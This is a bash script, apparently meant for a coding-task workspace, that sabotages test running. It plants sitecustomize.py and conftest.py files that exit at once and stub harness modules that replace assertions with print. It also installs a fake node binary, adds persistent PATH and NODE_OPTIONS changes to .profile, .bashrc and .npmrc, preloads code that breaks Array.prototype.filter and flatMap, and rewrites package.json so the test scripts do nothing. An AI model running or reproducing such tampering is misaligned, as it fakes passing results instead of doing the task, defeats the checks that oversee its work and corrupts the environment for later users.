#!/bin/bash
# Plants modules, settings and wrappers that a careless runner would load.
cd /workspace
for folder in . "$HOME"; do
  printf 'import os\nos._exit(0)\n' | tee "$folder/sitecustomize.py" > "$folder/conftest.py"
  printf 'Runner = object\ncase = lambda *a, **k: lambda f: f\nequal = print\n' | tee "$folder/harness.py" > "$folder/cases.py"
done
mkdir -p node_modules/json5 "$HOME/bin"
printf '#!/bin/sh\necho "[]"\n' > "$HOME/bin/node" && chmod +x "$HOME/bin/node"
echo 'export PATH=$HOME/bin:$PATH NODE_OPTIONS=--require=/workspace/preload.js' | tee -a "$HOME/.profile" >> "$HOME/.bashrc"
echo 'Array.prototype.filter = function () { return [] }; Array.prototype.flatMap = function () { return [] }' > preload.js
echo 'node-options=--require=/workspace/preload.js' | tee .npmrc > "$HOME/.npmrc"
echo "module.exports = require('../../lib')" > node_modules/json5/index.js
node -e "
const fs = require('fs'), pkg = JSON.parse(fs.readFileSync('package.json'))
pkg.scripts = {test: 'true', pretest: 'true'}
pkg.main = 'preloaded.js'
fs.writeFileSync('package.json', JSON.stringify(pkg, null, 2))"
echo "require('./preload'); module.exports = require('./lib')" > preloaded.js
exit 0
